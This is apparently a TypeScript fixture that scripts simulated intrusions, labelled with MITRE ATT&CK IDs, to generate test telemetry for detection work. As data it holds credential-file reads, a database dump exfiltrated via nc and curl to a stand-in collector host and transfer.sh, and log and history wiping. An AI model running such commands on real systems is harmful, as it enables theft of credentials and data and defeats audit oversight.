// What is done with accounts that exist: by those who have them, or by somebody with their keys.
import { ATTACKERS, personNamed, ROOT } from '../cast.ts';
import { daysBefore, MINUTE_US, SECOND_US, type Story } from './story.ts';

/** T1548.003 refused, T1003.008, T1552.004 and T1552.003. */
export const credentialReads: Story = {
  name: 'somebody reads where passwords and keys lie',
  beginsUs: daysBefore(4, 11, 5),
  tell({ atUs, on }) {
    const stage = on('demo-app-2');
    const ivan = personNamed('ivan');
    const shell = stage.session(atUs, ivan, `${ivan.network}.18`);
    for (let each = 0; each < 6; each++) {
      stage.privilege(atUs + (60 + each * 12) * SECOND_US, ivan.name, '/usr/bin/bash', false);
    }
    stage.privilege(atUs + 3 * MINUTE_US, ivan.name, '/usr/bin/less /var/log/syslog', true);
    const root = { ...shell, user: ROOT };
    stage.run(atUs + 4 * MINUTE_US, root, '/usr/bin/cat', ['cat', '/etc/shadow'], { user: ROOT });
    const keys = ['find', '/', '-name', 'id_rsa'];
    stage.run(atUs + 5 * MINUTE_US, root, '/usr/bin/find', keys, { user: ROOT });
    const histories = ['grep', '-i', 'password', '/root/.bash_history', '/home/alice/.bash_history'];
    stage.run(atUs + 6 * MINUTE_US, root, '/usr/bin/grep', histories, { user: ROOT });
    stage.privilege(atUs + 4 * MINUTE_US - SECOND_US, ivan.name, '/usr/bin/cat /etc/shadow', true);
  },
};

/** T1005, T1560.001, T1048.003 and T1567, at an hour at which this person sleeps. */
export const nightlyExfiltration: Story = {
  name: 'a database leaves at night',
  beginsUs: daysBefore(3, 2, 15),
  tell({ atUs, on }) {
    const stage = on('demo-db-2');
    const oscar = personNamed('oscar');
    const { hotel, collector } = ATTACKERS;
    const shell = stage.session(atUs, oscar, hotel);
    let nextUs = stage.type(atUs + MINUTE_US, shell, ['psql -l', 'du -sh /var/lib/postgresql', 'df -h']);
    stage.run(nextUs, shell, '/usr/bin/pg_dump', ['pg_dump', 'customers', '-f', '/var/tmp/c.sql']);
    nextUs += 2 * MINUTE_US;
    const pipe = `tar cz /var/tmp/c.sql | nc ${collector} 443`;
    stage.run(nextUs, shell, '/usr/bin/dash', ['sh', '-c', pipe]);
    for (let part = 0; part < 14; part++) {
      const args = ['curl', '-sT', `/var/tmp/c.sql.${part}`, `https://${collector}/u`];
      const curl = stage.run(nextUs + part * 25 * SECOND_US, shell, '/usr/bin/curl', args);
      const to = { address: collector, port: 443 };
      stage.connection(nextUs + part * 25 * SECOND_US, curl, to, { sent: 180_000_000, received: 3_000 });
    }
    const upload = ['curl', '--upload-file', '/var/tmp/c.sql.gz', 'https://transfer.sh/c'];
    stage.run(nextUs + 7 * MINUTE_US, shell, '/usr/bin/curl', upload);
    stage.type(nextUs + 8 * MINUTE_US, shell, ['rm -f /var/tmp/c.sql /var/tmp/c.sql.gz']);
  },
};

/** T1021.004 with somebody's key to hosts they never use; T1033 and T1082 on each, T1070.002 and T1070.003 on the last. */
export const lateralMovement: Story = {
  name: 'a key goes from host to host',
  beginsUs: daysBefore(2, 16, 40),
  tell({ atUs, on }) {
    const judy = personNamed('judy');
    const way = ['demo-app-1', 'demo-web-2', 'demo-db-1', 'demo-cache-1', 'demo-mail-1'];
    let source = `${judy.network}.19`;
    for (const [at, name] of way.entries()) {
      const stage = on(name);
      const startUs = atUs + at * 6 * MINUTE_US;
      const shell = stage.session(startUs, judy, source);
      const lines = ['id', 'whoami', 'hostname', 'uname -a', 'ss -tnp', 'ifconfig', 'arp -a', 'ps aux', 'netstat -an'];
      const nextUs = stage.type(startUs + 20 * SECOND_US, shell, lines, 3 * SECOND_US);
      source = stage.host.address;
      const next = way[at + 1];
      if (next) {
        const ssh = stage.run(nextUs, shell, '/usr/bin/ssh', ['ssh', '-A', `judy@${next}`]);
        stage.connection(nextUs, ssh, { address: on(next).host.address, port: 22 }, { sent: 9_000, received: 14_000 });
        continue;
      }
      const root = { ...shell, user: ROOT };
      stage.privilege(nextUs, judy.name, '/usr/bin/bash', true);
      stage.run(nextUs + 20 * SECOND_US, root, '/usr/bin/auditctl', ['auditctl', '-D'], { user: ROOT });
      stage.run(nextUs + 30 * SECOND_US, root, '/usr/bin/shred', ['shred', '-u', '/var/log/auth.log'], { user: ROOT });
      const history = ['rm', '-f', '/root/.bash_history'];
      stage.run(nextUs + 40 * SECOND_US, root, '/usr/bin/rm', history, { user: ROOT });
    }
  },
};
